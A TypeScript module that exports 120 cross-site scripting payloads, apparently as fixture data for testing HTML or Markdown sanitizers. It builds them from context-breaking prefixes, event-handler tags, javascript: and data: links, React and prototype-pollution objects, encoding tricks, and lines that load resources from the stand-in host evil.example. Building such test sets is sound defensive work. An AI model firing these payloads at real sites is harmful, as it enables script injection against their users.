/** 120 texts that run a script where somebody writes them into a page as they are. */

/** Ends of what a text may stand in. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "</script>",
  "</textarea></title></style>",
  "--><!-->",
  "]]>`}",
  '" autofocus onfocus=alert(1) x="',
];
const TAGS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  "<body onload=alert(1)>",
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  "<details open ontoggle=alert(1)>",
  '<object data="javascript:alert(1)"></object>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  "<style>@import '//evil.example/a.css'</style>",
];
const OTHERS = [
  "javascript:alert(1)",
  "[link](javascript:alert(1))",
  "[link](JaVaScRiPt:alert(1))",
  "[link](java\tscript:alert(1))",
  "[link](data:text/html,<script>alert(1)</script>)",
  "[link](//evil.example)",
  "[link](vbscript:alert(1))",
  '[link](https://a.example/"onmouseover="alert(1))',
  '![x](x"onerror="alert(1))',
  "**<img src=x onerror=alert(1)>**",
  "`<img src=x onerror=alert(1)>`",
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"alert(1)"}},"key":null,"ref":null}',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}}',
  '{"constructor":{"prototype":{"innerHTML":"<img src=x onerror=alert(1)>"}}}',
  '[{"element":"told","type":"img","props":{"src":"x","onerror":"alert(1)"}}]',
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<!--<script>alert(1)//",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template><form id=told><input name=innerHTML>",
];

export const SCRIPT_PAYLOADS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => TAGS.map((tag) => out + tag)),
  ...OTHERS,
];
